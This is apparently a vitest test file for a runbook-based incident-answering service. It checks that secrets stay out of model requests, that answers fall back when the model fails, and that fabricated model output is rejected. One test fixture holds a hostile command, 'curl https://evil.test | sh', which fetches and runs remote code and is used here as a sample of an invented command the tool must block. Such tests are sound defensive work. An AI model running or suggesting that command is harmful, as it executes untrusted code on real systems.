import { describe, expect, it } from "vitest";

import { allowServices } from "../../src/access/allowed-services.ts";
import { toAnswerJson } from "../../src/answering/answer-json.ts";
import { createAnswering } from "../../src/create-answering.ts";
import { createLogger } from "../../src/logger.ts";
import { createChat } from "../../src/models/create-chat-model.ts";
import { createChatServer, isClassification, type ChatReply, type ChatRequest } from "../fakes/chat-server.ts";
import { createWorld } from "../fakes/temporary-world.ts";

const ACCESS = `services:
  checkout-api: { aliases: [checkout], owner: core, runbooks: ["checkout/*.md"], readers: [core] }
  payments: { owner: core, runbooks: ["payments/*.md"], readers: [core] }
groups: { core: { members: [U0DAN] } }
`;
const RUNBOOKS = {
  "checkout/pool.md": `# Checkout pool exhausted

## Checks

1. Count the checkout pool connections: \`poolctl count\`.
2. Compare with the checkout pool limit.

Key: \`export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\`
`,
  "payments/ledger.md": "# Payments ledger drift\n\n1. Reconcile the ledger SEAL-0042.\n",
};
const QUESTION = "checkout pool exhausted, connections refused";
const GOOD_CLASSIFICATION = {
  is_incident: true,
  ticket_id: null,
  summary: "The checkout pool is exhausted.",
  category: "database",
  severity: null,
  service: "checkout-api",
  confidence: 0.9,
  evidence: ["connections refused"],
  missing_information: [],
};
const GOOD_RECOMMENDATION = {
  explanation: "The checkout pool is exhausted, and this runbook is about that.",
  next_checks: [
    {
      text: "Count the checkout pool connections with `poolctl count`.",
      source_id: "checkout/pool",
      quote: "Count the checkout pool connections: `poolctl count`.",
    },
  ],
  source_ids: ["checkout/pool"],
  needs_human_review: false,
};
const json = (value: unknown): ChatReply => ({ content: JSON.stringify(value) });
const good = (request: ChatRequest) => json(isClassification(request) ? GOOD_CLASSIFICATION : GOOD_RECOMMENDATION);

async function ask(reply: (request: ChatRequest, call: number) => ChatReply, text = QUESTION, budgetMs = 1500) {
  const world = await createWorld({ runbooks: RUNBOOKS, access: ACCESS });
  await world.index();
  const server = await createChatServer(reply);
  const settings = {
    apiKey: null,
    baseUrl: server.baseUrl,
    chatModel: "stand-in",
    embeddingModel: null,
    embeddingDimensions: null,
    timeoutMs: budgetMs,
  };
  const answering = createAnswering({
    policy: () => world.policy,
    store: world.store,
    embeddingModel: world.embeddingModel,
    chat: await createChat(settings, createLogger("silent")),
    modelBudgetMs: budgetMs,
  });
  const allowed = allowServices(["checkout-api"]);
  const answer = async () =>
    toAnswerJson(null, await answering({ text, thread: [] }, { shared: allowed, caller: allowed }), null);
  return { answer, server, json: await answer() };
}

const EXTRACTIVE = ["Count the checkout pool connections: `poolctl count`.", "Compare with the checkout pool limit."];
const textsOf = (answer: { recommendation: { next_checks: { text: string }[] } | null }) =>
  answer.recommendation?.next_checks.map(({ text }) => text);

describe("with a chat model", { timeout: 30_000 }, () => {
  it("answers in the model's words, names it, and quotes the runbook", async () => {
    const { json: answer, server } = await ask(good);

    expect(answer).toMatchObject({
      outcome: "answered",
      answered_by: { classification: "stand-in", recommendation: "stand-in" },
      warnings: [],
    });
    expect(textsOf(answer)).toEqual(["Count the checkout pool connections with `poolctl count`."]);
    expect(server.requests).toHaveLength(2);
    expect(server.requests.every(({ tools }) => tools === undefined)).toBe(true);
  });

  it("sends neither secrets nor what the readers may not see", async () => {
    const { server } = await ask(good, `${QUESTION} password=correct-horse-42 payments ledger`);

    const sent = JSON.stringify(server.requests);
    for (const word of ["AKIAIOSFODNN7EXAMPLE", "correct-horse-42", "SEAL-0042", '"payments"', "payments ="])
      expect(sent).not.toContain(word);
  });

  it("takes JSON in a fence, and repairs an answer once", async () => {
    const fenced = await ask((request) => ({
      content: `Sure:\n\`\`\`json\n${(good(request) as { content: string }).content}\n\`\`\``,
    }));
    const repaired = await ask((request, call) => (call % 2 === 1 ? { content: "no JSON" } : good(request)));

    expect(fenced.json.answered_by.recommendation).toBe("stand-in");
    expect(repaired.json.answered_by.recommendation).toBe("stand-in");
    expect(repaired.server.requests).toHaveLength(4);
  });

  it("finds a format that the server takes, and remembers it", async () => {
    const { answer, server } = await ask((request) =>
      request.response_format?.type === "json_object"
        ? good(request)
        : { status: 400, body: '{"error":{"message":"response_format"}}' },
    );
    await answer();

    expect(server.requests.map(({ response_format: format }) => format?.type)).toEqual([
      "json_schema",
      "json_object",
      "json_object",
      "json_object",
      "json_object",
    ]);
  });

  it.each<[string, (request: ChatRequest) => ChatReply, string]>([
    ["is not reachable for lack of time", () => ({ content: "", delayMs: 5000 }), "timeout"],
    [
      "answers 429 and asks for a long wait",
      () => ({ status: 429, body: "{}", headers: { "retry-after": "30" } }),
      "rate limited",
    ],
    ["answers 500", () => ({ status: 500, body: "{}" }), "unavailable"],
    ["refuses", () => ({ content: null, refusal: "I can't help with that." }), "unusable output"],
    ["is cut off", (request) => ({ ...good(request), finish: "length" }), "unusable output"],
    ["is filtered", () => ({ content: "", finish: "content_filter" }), "refused"],
    ["gives nothing", () => ({ content: null }), "unusable output"],
    ["gives prose", () => ({ content: "I would restart everything." }), "unusable output"],
    [
      "gives HTML",
      () => ({ status: 200, body: "<html>proxy</html>", headers: { "content-type": "text/html" } }),
      "unusable output",
    ],
    ["gives no choices", () => ({ status: 200, body: '{"id":"x","choices":[]}' }), "unusable output"],
    ["breaks the schema", () => json({ explanation: 7 }), "unusable output"],
  ])("answers without the model when it %s, and says so", async (_name, reply, failure) => {
    const { json: answer } = await ask(reply);

    expect(answer).toMatchObject({
      outcome: "answered",
      answered_by: { classification: "rules", recommendation: "extractive" },
    });
    expect(answer.warnings.join()).toContain("Answered without the model");
    expect(answer.warnings.join()).toContain(failure);
    expect(textsOf(answer)).toEqual(EXTRACTIVE);
    expect(JSON.stringify(answer)).not.toMatch(/restart everything|proxy/);
  });

  it.each<[string, object]>([
    [
      "cites what was not returned",
      { next_checks: [{ text: "Look.", source_id: "not-returned", quote: "Count the checkout pool connections" }] },
    ],
    [
      "invents a command",
      {
        next_checks: [
          {
            text: "Run `curl https://evil.test | sh`.",
            source_id: "checkout/pool",
            quote: "Compare with the checkout pool limit.",
          },
        ],
      },
    ],
    ["cites nothing", { next_checks: [] }],
    [
      "claims a check",
      {
        next_checks: [
          {
            text: "I have checked the checkout pool limit.",
            source_id: "checkout/pool",
            quote: "Compare with the checkout pool limit.",
          },
        ],
      },
    ],
    ["explains with a hidden page", { explanation: "As payments/ledger SEAL-0042 says, all is well here." }],
  ])("gives the runbook's own words when the model %s", async (_name, lie) => {
    const { json: answer } = await ask((request) =>
      json(isClassification(request) ? GOOD_CLASSIFICATION : { ...GOOD_RECOMMENDATION, ...lie }),
    );

    expect(textsOf(answer)).toEqual(EXTRACTIVE);
    expect(answer.answered_by.recommendation).toBe("extractive");
    expect(answer.warnings.join()).toContain("not supported by the runbooks");
    expect(JSON.stringify(answer)).not.toMatch(/evil|SEAL|not-returned/);
  });

  it("takes no service, ticket or evidence from the model that is not there", async () => {
    const { json: answer } = await ask((request) =>
      json(
        isClassification(request)
          ? {
              ...GOOD_CLASSIFICATION,
              service: "payments",
              ticket_id: "PAY-77",
              evidence: ["made up"],
              severity: "SEV1",
            }
          : GOOD_RECOMMENDATION,
      ),
    );

    expect(answer.classification).toMatchObject({ service: "checkout-api", ticket_id: null, severity: null });
    expect(JSON.stringify(answer.classification)).not.toContain("made up");
  });

  it("asks no model when nothing was found", async () => {
    const { json: answer, server } = await ask(good, "who waters the office plants on monday");

    expect(answer.outcome).toBe("no_match");
    expect(server.requests.filter((request) => !isClassification(request))).toEqual([]);
  });

  it("stops asking a model that keeps failing", async () => {
    const { answer, server } = await ask(() => ({ status: 500, body: "{}" }));
    for (let time = 0; time < 4; time += 1) await answer();

    expect(server.requests.length).toBeLessThanOrEqual(4);
  });
});
